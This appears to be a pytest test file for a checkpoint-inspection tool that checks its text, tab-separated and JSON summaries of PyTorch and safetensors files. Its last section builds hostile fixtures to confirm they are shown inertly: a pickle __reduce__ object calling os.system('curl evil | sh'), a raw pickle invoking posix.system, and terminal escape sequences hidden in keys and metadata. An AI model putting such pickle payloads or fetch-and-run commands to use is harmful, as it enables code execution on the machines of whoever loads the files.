"""ckpttool inspect: what is in a file, for people, for scripts and for pipes, and what it could run first."""

from __future__ import annotations

import argparse
import json
import os
import pickle
import textwrap
from collections import OrderedDict
from pathlib import Path
from typing import Any

import pytest
import torch
from safetensors.torch import save_file

import ckpttool
from ckpttool.inspecting.page import page
from ckpttool.inspecting.summary import summarize
from tests.support.crafting import call, dict_of, name, storage, tensor, text, torch_zip
from tests.support.running import ROOT
from tests.support.user_classes import Config

ONE = torch.ones(1)


@pytest.fixture(autouse=True)
def files(here: Path) -> None:
    weight = torch.ones(2, 3)
    state = OrderedDict({"module.fc.weight": weight, "module.head.weight": weight, "n": torch.tensor(1)})
    tree = {"epoch": 3, "model": state, "ema": {"x": ONE}, "args": argparse.Namespace(lr=0.1)}
    torch.save(tree | {"nan": float("nan")}, "last.pt")


# For people.


def test_the_page_shows_format_state_prefix_modules_and_the_rest(cli: Any) -> None:
    ran = cli("inspect last.pt")
    assert (ran.code, ran.err) == (0, "")
    lines = ran.out.splitlines()
    assert lines[0].startswith("last.pt: torch-zip, ")
    assert "  state       'model': 3 tensors, 7 parameters" in lines
    assert "  dtypes      2 float32, 1 int64" in lines
    assert "  also        --state ema" in lines
    assert "  tied        module.fc.weight = module.head.weight" in lines
    assert "  unknown     argparse.Namespace (kept inert, never imported)" in lines
    assert any(line.startswith("  prefix      'module.' on 2 of 3 keys") for line in lines)
    rows = [line.split() for line in lines]
    assert ["fc", "6", "24", "bytes", "weight", "2×3"] in rows
    assert ["head", "0", "0", "bytes", "weight", "2×3"] in rows
    assert ["n", "1", "8", "bytes", "scalar", "int64"] in rows
    assert ["epoch", "3"] in rows and ["args.lr", "0.1"] in rows


def test_stats_measures_every_tensor(cli: Any) -> None:
    rows = [line.split() for line in cli("inspect last.pt --stats").out.splitlines()]
    assert rows[0] == ["tensor", "dtype", "shape", "min", "max", "mean", "std"]
    assert rows[1] == ["model.module.fc.weight", "float32", "2×3", "1", "1", "1", "0"]
    found = cli("inspect last.pt --stats --json").json["tensors"]
    assert found[2]["stats"] == {"minimum": 1, "maximum": 1, "mean": 1.0, "deviation": 0.0, "non_finite": 0}


def test_values_that_are_not_finite_have_a_column_where_there_are_any(cli: Any) -> None:
    torch.save({"a": torch.tensor([float("nan"), 2.0]), "b": ONE}, "f.pt")
    lines = cli("inspect f.pt --stats").out.splitlines()
    assert lines[0].endswith("not finite") and [line.split()[-1] for line in lines[1:]] == ["1", "0"]


def test_state_selects_what_is_shown(cli: Any) -> None:
    assert cli("inspect last.pt --state ema --json").json["state"] == "ema"
    torch.save({"a": ONE}, "f.pt")
    ran = cli("inspect f.pt --state model")
    assert (ran.code, ran.err.splitlines()[1]) == (3, "hint: the file itself is the state: leave out --state")
    torch.save({}, "f.pt")
    assert "the file itself: 0 tensors, 0 parameters" in cli("inspect f.pt").out


def test_other_states_are_ready_to_paste_and_none_is_a_score_or_a_generator(cli: Any) -> None:
    tree = {"state_dict": {"a": ONE}, "rng": torch.get_rng_state(), "best": torch.tensor(0.5)}
    torch.save(tree | {"cuda": {"rng": torch.get_rng_state()}, "loop": {"score": ONE[0]}}, "f.pt")
    assert "--state" not in cli("inspect f.pt").out
    torch.save(tree | {"w": ONE, "v": ONE, "my copy": {"a": ONE, "b": ONE}}, "f.pt")
    lines = cli("inspect f.pt").out.splitlines()
    others = [line.split(maxsplit=1)[1] for line in lines if "--state" in line]
    assert others == ["--state ''", "--state 'my copy'"]
    said = cli("slim f.pt g.pt").err
    assert "state: 'state_dict'; also available: --state '', --state 'my copy'\n" in said


def test_tensors_beside_the_state_are_named_with_count_and_size(cli: Any) -> None:
    model = torch.nn.Linear(3, 2)
    optimizer = torch.optim.Adam(model.parameters())
    model(torch.ones(1, 3)).sum().backward()
    optimizer.step()
    callback = {"a": torch.zeros(4), "deep": {"b": torch.ones(2, 2)}}
    tree = {"run": {"state_dict": model.state_dict(), "cb": callback}, "optimizer": optimizer.state_dict()}
    queue = torch.zeros(7, dtype=torch.int64)
    torch.save(tree | {"queue": queue, "mixed": {"shadow": torch.zeros(3), "decay": 0.9}}, "last.pt")
    lines = cli("inspect last.pt").out.partition("other contents\n")[2].splitlines()
    assert [line.split(maxsplit=1) for line in lines] == [
        ["mixed.decay", "0.9"],
        ["run.cb", "2 tensors, 32 bytes"],
        ["queue", "1 tensor, 56 bytes"],
        ["mixed", "1 tensor, 12 bytes"],
    ]
    found = cli("inspect last.pt --json").json["other_tensors"]
    assert found[0] == {"name": "run.cb", "tensors": 2, "nbytes": 32}


def test_the_page_in_the_docs_is_what_is_printed(resnet20: Path, cli: Any, monkeypatch: Any) -> None:
    monkeypatch.chdir(resnet20.parent)
    command = f"inspect {resnet20.name} --depth 1"
    text = (ROOT / "docs" / "index.md").read_text(encoding="utf-8")
    assert f"    $ ckpttool {command}\n" in text
    told = text.partition(f"    $ ckpttool {command}\n")[2].partition("    $ ")[0]
    assert textwrap.dedent(told).strip() == cli(command).out.strip()


# For scripts and pipes.


def test_one_line_a_tensor_for_grep_and_cut(cli: Any) -> None:
    assert cli("inspect last.pt --tensors").out.splitlines() == [
        "model.module.fc.weight\tfloat32\t[2,3]\t24\t",
        "model.module.head.weight\tfloat32\t[2,3]\t24\tmodel.module.fc.weight",
        "model.n\tint64\t[]\t8\t",
        "ema.x\tfloat32\t[1]\t4\t",
    ]


def test_tensors_with_statistics_have_a_header_when_piped(cli: Any) -> None:
    header, row, *others = (
        line.split("\t") for line in cli("inspect last.pt --tensors --stats").out.splitlines()
    )
    wanted = ["tensor", "dtype", "shape", "bytes", "shared with", "min", "max", "mean", "std", "not finite"]
    assert header == wanted
    assert row == ["model.module.fc.weight", "float32", "[2,3]", "24", "", "1", "1", "1", "0", "0"]
    assert len(others) == 3
    torch.save({"epoch": 1}, "none.pt")
    assert cli("inspect none.pt --tensors --stats").out.strip() == ""


def test_json_has_the_fields_that_scripts_rely_on(cli: Any) -> None:
    ran = cli("inspect last.pt --json")
    found = ran.json
    assert ran.err == ""
    assert (found["path"], found["format"], found["bytes"]) == (
        "last.pt",
        "torch-zip",
        os.path.getsize("last.pt"),
    )
    assert (found["state"], found["parameters"]) == ("model", 7)
    prefixes = [(prefix["prefix"], prefix["keys"], prefix["of"]) for prefix in found["prefixes"]]
    assert prefixes == [("module.", 2, 3)]
    first = {k: found["tensors"][0][k] for k in ("name", "dtype", "shape", "nbytes")}
    assert first == {"name": "model.module.fc.weight", "dtype": "float32", "shape": [2, 3], "nbytes": 24}
    assert {"name": "epoch", "type": "int", "value": 3} in found["other"]
    assert found["unknown"] == ["argparse.Namespace"]


def test_json_has_no_numbers_that_json_lacks(cli: Any) -> None:
    def refuse(constant: str) -> Any:
        raise AssertionError(constant)

    found = json.loads(cli("inspect last.pt --json").out, parse_constant=refuse)
    assert {"name": "nan", "type": "float", "value": "nan"} in found["other"]


def test_json_names_the_format_the_state_and_the_class_of_a_model(cli: Any) -> None:
    torch.save([1], "list")
    torch.save(torch.nn.Linear(2, 2), "model")
    torch.save({"a": ONE}, "zip")
    torch.save({"a": ONE}, "legacy", _use_new_zipfile_serialization=False)
    save_file({"a": ONE}, "safe")
    found = {path: cli("inspect", path, "--json").json for path in ("list", "model", "zip", "legacy", "safe")}
    assert [found[path]["format"] for path in ("zip", "legacy", "safe")] == [
        "torch-zip",
        "torch-legacy",
        "safetensors",
    ]
    assert (found["list"]["state"], found["zip"]["state"]) == (None, "")
    assert (found["model"]["model"], found["model"]["state_bytes"]) == ("torch.nn.modules.linear.Linear", 24)


def test_a_file_is_read_from_standard_input(process: Any) -> None:
    with open("last.pt", "rb") as file:
        ran = process("inspect", "-", "--json", stdin=file)
    assert json.loads(ran.stdout)["state"] == "model"
    ran = process("inspect", "-", "--json", input=Path("last.pt").read_bytes())
    assert (ran.returncode, json.loads(ran.stdout)["path"]) == (0, "-")


# What a file could do.

ESCAPES = "\x1b]0;title\x07\x1b[2J\r\n\u202e\ud800"


def test_nothing_from_the_file_steers_the_terminal(here: Path, cli: Any) -> None:
    """In keys, values, names of classes, and metadata."""
    body = dict_of(
        {
            ESCAPES: tensor(storage(1), (1,)),
            "b" + ESCAPES: text(ESCAPES),
            "c": call(name("evil\x1b[2J", "C\x07")) + dict_of({ESCAPES: text(ESCAPES)}) + b"b",
            "d": name("evil\x1b[2J", "C\x07"),
            "e" + ESCAPES: dict_of({ESCAPES: tensor(storage(1), (1,))}),
        }
    )
    torch_zip(here / "f.pt", body, {"0": bytes(4)})
    ran = cli("inspect f.pt")
    assert ran.code == 0
    assert not any(c in ran.out for c in "\x1b\x07\r\u202e\ud800")
    assert r"\x1b]0;title\x07\x1b[2J\r\n\u202e\ud800" in ran.out
    assert cli("inspect f.pt --json").json["unknown"] == ["evil\x1b[2J.C\x07"]
    save_file({"a": ONE}, "f", metadata={"\x1b[2J": "\x1b[2J\n"})
    ran = cli("inspect f")
    assert "\x1b" not in ran.out
    assert r"metadata    \x1b[2J: \x1b[2J\n" in ran.out


class Call:
    """Pickled as a call, which is never made here."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self.function, self.arguments = function, arguments

    def __reduce__(self) -> tuple[Any, ...]:
        return self.function, self.arguments


def test_a_call_is_shown_with_its_argument_before_an_unknown_class(cli: Any) -> None:
    calls = {"b": Call(os.system, "curl evil | sh"), "c": Call(eval, "1+1")}
    torch.save({"model": {"w": ONE}, "a": Config(0.1), **calls}, "a.pt")
    ran = cli("inspect a.pt")
    lines = [line for line in ran.out.splitlines() if "(kept inert" in line or line.startswith("  calls")]
    assert "posix.system('curl evil | sh')" in lines[0] + lines[1]
    assert "eval('1+1')" in lines[0] + lines[1]
    assert lines[-1].startswith("  could run") and "Config" in lines[-1]
    found = cli("inspect a.pt --json").json["calls"]
    assert sorted(found) == ["__builtin__.eval('1+1')", "posix.system('curl evil | sh')"]
    with ckpttool.open("a.pt") as checkpoint:
        shown = list(page(summarize(checkpoint), None, None, 40, everything=False))
    assert any("\x1b[31m" in line and "posix.system" in line for line in shown), "in red on a terminal"


def test_a_call_that_the_pickle_drops_is_named_and_a_long_argument_is_cut(here: Path, cli: Any) -> None:
    torch_zip(here / "dropped.pt", b"\x80\x02cposix\nsystem\n(X\x02\x00\x00\x00lstR0}.")
    assert "posix.system" in cli("inspect dropped.pt").out
    calls = {"b": Call(os.system, "x" * 10_000), "n": Call(os.system, b"\x00" * 5000)}
    torch.save({"model": {"w": ONE}, **calls}, "long.pt")
    assert len(cli("inspect long.pt").out) < 3000


def test_harmless_files_say_nothing_of_calls(cli: Any) -> None:
    torch.save({"model": {"w": ONE}, "epoch": 1, "when": pickle.dumps(1)}, "a.pt")
    out = cli("inspect a.pt").out
    assert "calls" not in out and "could run" not in out
